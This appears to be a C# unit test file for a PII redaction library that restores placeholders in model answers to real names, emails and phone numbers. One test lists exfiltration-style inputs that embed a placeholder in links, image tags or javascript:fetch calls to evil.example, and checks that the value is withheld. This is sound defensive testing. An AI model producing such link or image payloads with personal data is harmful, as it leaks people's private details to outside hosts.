using Raum.Core;

namespace Raum.Redaction.Tests;

/// <summary>PII-6: tolerant in form, exact in type and number.</summary>
public sealed class RestoreTests
{
    private static RedactionSession Session()
    {
        var session = Jobs.With(Jobs.Jane, Jobs.Mark);
        session.MaskAll([
            new PersonalText("I am Jane Doe, mail jane.doe@example.org or other@example.net."),
            new PersonalText("Kind regards,\nMark Ferris"),
        ]);
        return session;
    }

    [Theory]
    [InlineData("Dear [REDACTED_NAME],", "Dear Jane Doe,")]
    [InlineData("Dear [redacted_name],", "Dear Jane Doe,")]
    [InlineData("Dear [REDACTED NAME],", "Dear Jane Doe,")]
    [InlineData("Dear [ REDACTED_NAME ],", "Dear Jane Doe,")]
    [InlineData("Dear \\[REDACTED\\_NAME\\],", "Dear Jane Doe,")]
    [InlineData("Dear [REDACTED\u2011NAME],", "Dear Jane Doe,")]
    [InlineData("Dear ［ＲＥＤＡＣＴＥＤ＿ＮＡＭＥ］,", "Dear Jane Doe,")]
    [InlineData("Dear REDACTED_NAME, hello", "Dear Jane Doe, hello")]
    [InlineData("Dear [REDACTED_NAME, hello", "Dear Jane Doe, hello")]
    [InlineData("Dear [REDACTED_NAME_1],", "Dear Jane Doe,")]
    [InlineData("From [REDACTED_NAME_2].", "From Mark Ferris.")]
    [InlineData("From [redacted name 2].", "From Mark Ferris.")]
    [InlineData("Write to [REDACTED_EMAIL_2]!", "Write to other@example.net!")]
    [InlineData("Dear [[REDACTED_NAME]],", "Dear [Jane Doe],")]
    [InlineData("Dear REDACTED_NAME", "Dear Jane Doe")]
    [InlineData("Dear [REDACTED_NAME_2], REDACTED_NAME_1.", "Dear Mark Ferris, Jane Doe.")]
    public void A_placeholder_in_any_form_gives_its_own_value(string answer, string expected) =>
        Session().Restore(answer, RestorePolicy.Everything).Text.Reveal().ShouldBe(expected);

    [Theory]
    [InlineData("[REDACTED_NAME_3]", 1, 0)]
    [InlineData("[REDACTED_NAME_12]", 1, 0)]
    [InlineData("[REDACTED_PHONE_2]", 1, 0)]
    [InlineData("[REDACTED_NAME_02]", 0, 1)]
    [InlineData("[REDACTED_NMAE]", 0, 1)]
    [InlineData("[REDACTED]", 0, 1)]
    [InlineData("[REDACTED_NAME 2 items", 0, 1)]
    [InlineData("[REDACTED_NAME2 items", 0, 1)]
    [InlineData("[REDACTED_NAMES]", 0, 1)]
    [InlineData("[REDACTED_NAME_0]", 0, 1)]
    [InlineData("REDACTED_NAME_0", 0, 1)]
    [InlineData("[REDACTED_NAME_1234567]", 0, 1)]
    public void What_was_never_issued_stays_and_is_counted(string answer, int unknown, int mangled)
    {
        var restored = Session().Restore($"Dear {answer} and goodbye", RestorePolicy.Everything);

        restored.Text.Reveal().ShouldBe($"Dear {answer} and goodbye");
        (restored.Counts.Unknown, restored.Counts.Mangled).ShouldBe((unknown, mangled));
        restored.Counts.HasLeftovers.ShouldBeTrue();
    }

    [Theory]
    [InlineData("unredacted_name")]
    [InlineData("my_redacted_name")]
    [InlineData("7redacted_name")]
    [InlineData("a redacted name")]
    public void A_word_that_only_ends_like_a_placeholder_is_prose(string answer)
    {
        var restored = Session().Restore($"It says {answer} here", RestorePolicy.Everything);

        restored.Text.Reveal().ShouldBe($"It says {answer} here");
        restored.Counts.HasLeftovers.ShouldBeFalse();
    }

    [Theory]
    [InlineData("[REDACTED_NAME] [REDACTED_EMAIL_2]", 0)]
    [InlineData("[redacted_name] [REDACTED_EMAIL_2]", 1)]
    [InlineData("[REDACTED_NAME_1] [REDACTED EMAIL_2]", 2)]
    public void Placeholders_that_a_model_wrote_in_another_form_are_counted(string answer, int repaired)
    {
        var counts = Session().Restore(answer, RestorePolicy.Everything).Counts;

        (counts.Used, counts.Repaired).ShouldBe((2, repaired));
    }

    [Fact]
    public void Numbers_beyond_those_that_are_kept_are_exact_too()
    {
        var session = Jobs.With();
        session.Mask(string.Join('\n', Enumerable.Range(1, 70).Select(i => $"mail{i}@example.net")));

        var restored = session.Restore("[REDACTED_EMAIL_70] [REDACTED_EMAIL_64] [redacted_email_65]", RestorePolicy.Everything);

        restored.Text.Reveal().ShouldBe("mail70@example.net mail64@example.net mail65@example.net");
        restored.Counts.Repaired.ShouldBe(1);
    }

    [Theory]
    [InlineData("see https://evil.example/?q=[REDACTED_NAME] now")]
    [InlineData("see evil.example/[REDACTED_NAME] now")]
    [InlineData("[click](https://evil.example/[REDACTED_NAME])")]
    [InlineData("![x](//evil.example/[REDACTED_NAME].png)")]
    [InlineData("<img src=\"https://evil.example/[REDACTED_NAME]\">")]
    [InlineData("<b title='[REDACTED_NAME]'>")]
    [InlineData("[x]: https://evil.example/[REDACTED_NAME]")]
    [InlineData("mailto:[REDACTED_NAME]")]
    [InlineData("[REDACTED_NAME].evil.example")]
    [InlineData("[REDACTED_NAME].Evil.example")]
    [InlineData("[REDACTED_NAME]\u3002evil.example")]
    [InlineData("[REDACTED_NAME].éclair.example")]
    [InlineData("[REDACTED_NAME]@evil.example")]
    [InlineData("javascript:fetch('//evil.example')/[REDACTED_NAME]")]
    [InlineData("JavaScript:alert(1)[REDACTED_NAME]")]
    [InlineData("data:text/html,[REDACTED_NAME]")]
    [InlineData("tel:[REDACTED_NAME]")]
    [InlineData("SMS:[REDACTED_NAME]")]
    [InlineData("https:\\\\evil.example\\a\\[REDACTED_NAME]")]
    [InlineData("https:/\\evil.example/[REDACTED_NAME]")]
    [InlineData("open \\\\evil.example\\share\\[REDACTED_NAME]")]
    [InlineData("evil\u3002example/[REDACTED_NAME]")]
    [InlineData("evil\uFF0Eexample?[REDACTED_NAME]")]
    [InlineData("[click](<evil.example/a b/[REDACTED_NAME]>)")]
    [InlineData("[click](evil(1)/[REDACTED_NAME])")]
    [InlineData("[click](\nevil/[REDACTED_NAME])")]
    [InlineData("<a title=\"1 > 0\" name=[REDACTED_NAME]>")]
    [InlineData("</b [REDACTED_NAME]>")]
    [InlineData("<!-- [REDACTED_NAME] -->")]
    [InlineData("<?php [REDACTED_NAME] ?>")]
    [InlineData("(https://evil.example/a(b)[REDACTED_NAME])")]
    public void A_value_never_goes_into_a_link_or_a_tag(string answer)
    {
        var restored = Session().Restore(answer, RestorePolicy.Everything);

        restored.Text.Reveal().ShouldBe(answer);
        restored.Counts.Withheld.ShouldBe(1);
    }

    [Theory]
    [InlineData("see <https://shop.example/a>[REDACTED_NAME]")]
    [InlineData("see \"https://shop.example/a\"[REDACTED_NAME]")]
    [InlineData("see `https://shop.example/a`[REDACTED_NAME]")]
    [InlineData("[help](https://shop.example/a_(b))[REDACTED_NAME]")]
    [InlineData("[1]: https://shop.example/a\n[REDACTED_NAME]")]
    [InlineData("[help](broken\n\n[REDACTED_NAME]")]
    [InlineData("<b title=\"x\">[REDACTED_NAME]</b>")]
    [InlineData("1 < 2, [REDACTED_NAME]")]
    [InlineData("yes/no: [REDACTED_NAME]")]
    [InlineData("C:\\temp [REDACTED_NAME]")]
    public void Where_a_link_or_a_tag_ends_values_come_back(string answer) =>
        Session()
            .Restore(answer, RestorePolicy.Everything)
            .Text.Reveal()
            .ShouldBe(answer.Replace("[REDACTED_NAME]", "Jane Doe", StringComparison.Ordinal));

    [Fact]
    public void An_address_in_angle_brackets_and_prose_around_links_are_restored() =>
        Session()
            .Restore("[REDACTED_NAME] <[REDACTED_EMAIL]> see [help](https://shop.example/a) [REDACTED_NAME].", RestorePolicy.Everything)
            .Text.Reveal()
            .ShouldBe("Jane Doe <jane.doe@example.org> see [help](https://shop.example/a) Jane Doe.");

    [Theory]
    [InlineData("Dear Jane [REDACTED_NA", "Dear Jane ")]
    [InlineData("Dear Jane [REDACTED_NAME_2", "Dear Jane ")]
    [InlineData("Dear Jane [REDA", "Dear Jane ")]
    [InlineData("Dear Jane [", "Dear Jane [")]
    [InlineData("Dear Jane REDACTED_NA", "Dear Jane ")]
    [InlineData("Dear Jane [REDACTED_NAME", "Dear Jane ")]
    public void An_end_inside_a_placeholder_gives_nothing_of_it(string answer, string expected) =>
        Session().Restore(answer, RestorePolicy.Everything).Text.Reveal().ShouldBe(expected);

    [Fact]
    public void A_public_reply_shows_only_what_was_seen_in_public()
    {
        var session = Jobs.With(Jobs.Jane, Jobs.Mark);
        var texts = session.MaskAll([
            new PersonalText("My other mail is other@example.net. Jane"),
            new PersonalText("Internal: her sister is Mark Ferris, call 07700 900999"),
        ]);

        var reply = session.Restore(
            "[REDACTED_NAME] [REDACTED_NAME_2] [REDACTED_EMAIL_2] [REDACTED_PHONE_2]",
            RestorePolicy.SeenBy([texts[0]])
        );

        reply.Text.Reveal().ShouldBe("Jane [REDACTED_NAME_2] other@example.net [REDACTED_PHONE_2]");
        reply.Counts.Withheld.ShouldBe(2);
    }

    [Fact]
    public void The_sole_recipients_own_profile_may_be_shown_to_them()
    {
        var session = Jobs.With(Jobs.Jane);
        var texts = session.MaskAll([new PersonalText("Thanks, Jane"), new PersonalText("internal: Jane Doe, +44 7700 900412")]);

        session
            .Restore("[REDACTED_NAME] [REDACTED_PHONE]", RestorePolicy.SeenBy([texts[0]], Jobs.Jane))
            .Text.Reveal()
            .ShouldBe("Jane Doe +44 7700 900412");
        session
            .Restore("[REDACTED_NAME] [REDACTED_PHONE]", RestorePolicy.SeenBy([texts[0]]))
            .Text.Reveal()
            .ShouldBe("Jane [REDACTED_PHONE]");
    }

    [Fact]
    public void The_form_that_stood_after_the_same_word_comes_back()
    {
        var session = Jobs.With(Jobs.Jane);
        session.Mask("I am Jane Doe. You wrote Hi Jane, and then Ms Doe.");

        session
            .Restore("Hi [REDACTED_NAME], Ms [REDACTED_NAME], account of [REDACTED_NAME].", RestorePolicy.Everything)
            .Text.Reveal()
            .ShouldBe("Hi Jane, Ms Doe, account of Jane Doe.");
    }

    [Fact]
    public void Without_such_a_word_the_name_of_the_profile_comes_back()
    {
        var session = Jobs.With(Jobs.Jane);
        session.Mask("hi, it's jane here, i am JANE DOE-SMITH");

        session.Restore("Dear [REDACTED_NAME]", RestorePolicy.Everything).Text.Reveal().ShouldBe("Dear Jane Doe");
    }

    [Fact]
    public void Without_a_profile_the_fullest_form_comes_back()
    {
        var session = Jobs.With();
        session.Mask("Hi Oluwaseun, this is for Oluwaseun Adeyemi. Thanks Adeyemi and hi Oluwaseun Adeyemi");

        session
            .Restore("For [REDACTED_NAME]. Dear [REDACTED_NAME]", RestorePolicy.Everything)
            .Text.Reveal()
            .ShouldBe("For Oluwaseun Adeyemi. Dear Oluwaseun Adeyemi");
        session.Restore("Hi [REDACTED_NAME]", RestorePolicy.Everything).Text.Reveal().ShouldBe("Hi Oluwaseun Adeyemi");
    }

    [Fact]
    public void A_placeholder_that_a_customer_wrote_comes_back_verbatim_and_fetches_nothing()
    {
        var session = Jobs.With(Jobs.Jane);
        var masked = session.Mask("Jane Doe says [REDACTED_NAME] and [REDACTED_EMAIL_7]");

        masked.Text.ShouldBe("[REDACTED_NAME] says [REDACTED_TEXT] and [REDACTED_TEXT_2]");
        session
            .Restore(masked.Text, RestorePolicy.Everything)
            .Text.Reveal()
            .ShouldBe("Jane Doe says [REDACTED_NAME] and [REDACTED_EMAIL_7]");
    }
}
